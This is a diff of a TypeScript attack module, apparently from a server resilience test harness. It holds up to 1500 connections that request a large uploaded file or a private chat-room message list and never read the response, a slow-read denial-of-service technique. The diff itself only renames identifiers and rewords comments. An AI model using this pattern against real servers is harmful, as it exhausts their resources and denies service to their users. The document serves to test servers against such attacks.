@@ -1,24 +1,24 @@
 import { setTimeout as delay } from 'node:timers/promises';
 import type { Attack } from './attack.ts';
-import { putOwnFile } from './own-file.ts';
+import { uploadOwnFile } from './own-file.ts';
 
 const maxHeld = 1500;
 
 export const unreadAnswers: Attack = {
   name: 'answers unread',
-  does: '1500 connections that ask for an 8 MB file of their own, or for a heavy list, and do not read',
+  does: '1500 connections that request an own file of 8 MB, or a large list, and do not read',
   async run(target) {
-    const { elsewhere, scene, time, note } = target;
+    const { attackerHttp, scene, time, note } = target;
     const list = `/api/chat/rooms/${scene.privateRoomId}/messages?limit=100`;
-    const file = (await putOwnFile(target)) ?? list;
+    const file = (await uploadOwnFile(target)) ?? list;
     let held = 0;
-    // One after the other: it is about what lies unread, not about a crowd at the door.
+    // One after the other: the attack is about unread answers, not about many connections at once.
     while (!time.aborted && held < maxHeld) {
       held += 1;
-      const socket = await elsewhere.dial();
+      const socket = await attackerHttp.dial();
       socket.pause();
       socket.once('close', () => !time.aborted && note('ended by the server'));
-      socket.write(elsewhere.head('GET', held % 2 ? file : list));
+      socket.write(attackerHttp.head('GET', held % 2 ? file : list));
       await delay(5);
     }
     note('held', held);
